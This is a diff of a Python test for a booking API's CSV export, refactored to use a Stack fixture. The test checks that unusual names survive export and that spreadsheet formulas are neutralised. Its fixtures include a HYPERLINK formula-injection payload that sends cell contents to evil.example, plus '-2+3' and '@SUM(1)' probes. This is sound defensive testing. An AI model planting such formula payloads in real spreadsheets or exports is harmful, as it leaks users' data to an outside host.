@@ -9,7 +9,6 @@ from typing import Any
 
 import httpx
 import pytest
-import stripe
 
 from api.routes import session_exports
 from devstack.pay import pay
@@ -17,6 +16,7 @@ from documents.bookings_csv import COLUMNS
 from tests.api.conftest import ADMIN
 from tests.conftest import OTHER_ADMIN_KEY, SessionFactory
 from tests.helpers.api_bookings import booking_body, wait_for_status
+from tests.helpers.stack import Stack
 
 AWKWARD = 'Zoë "Zed" Ærøskøbing, 李小龙 / Ольга / محمد'
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
@@ -44,24 +44,22 @@ def read_csv(response: httpx.Response) -> list[dict[str, str]]:
     return list(reader)
 
 
-async def test_the_csv_reads_back_with_every_name_intact_and_formulas_defused(
-    api: httpx.AsyncClient, new_session: SessionFactory, stripe_client: stripe.StripeClient
-) -> None:
-    session_id = await new_session(capacity=20)
+async def test_the_csv_reads_back_with_every_name_intact_and_formulas_defused(stack: Stack) -> None:
+    session_id = await stack.new_session(capacity=20)
     awkward = await book(
-        api,
+        stack.api,
         session_id,
         AWKWARD,
         5,
         attendees=[{"name": '+44 1234, "the" guest'}, {"name": "Ольга"}],
     )
-    assert await pay(stripe_client, awkward["payment"]["payment_intent_id"]) == "succeeded"
-    paid = await wait_for_status(api, awkward["id"], "CONFIRMED")
-    formula = await book(api, session_id, FORMULA)
-    minus = await book(api, session_id, "-2+3")
-    at_sign = await book(api, session_id, "@SUM(1)")
+    assert await pay(stack.stripe_client, awkward["payment"]["payment_intent_id"]) == "succeeded"
+    paid = await wait_for_status(stack.api, awkward["id"], "CONFIRMED")
+    formula = await book(stack.api, session_id, FORMULA)
+    minus = await book(stack.api, session_id, "-2+3")
+    at_sign = await book(stack.api, session_id, "@SUM(1)")
 
-    response = await api.get(f"/v1/sessions/{session_id}/bookings.csv", headers=ADMIN)
+    response = await stack.api.get(f"/v1/sessions/{session_id}/bookings.csv", headers=ADMIN)
     rows = read_csv(response)
     assert "attachment" in response.headers["content-disposition"]
 
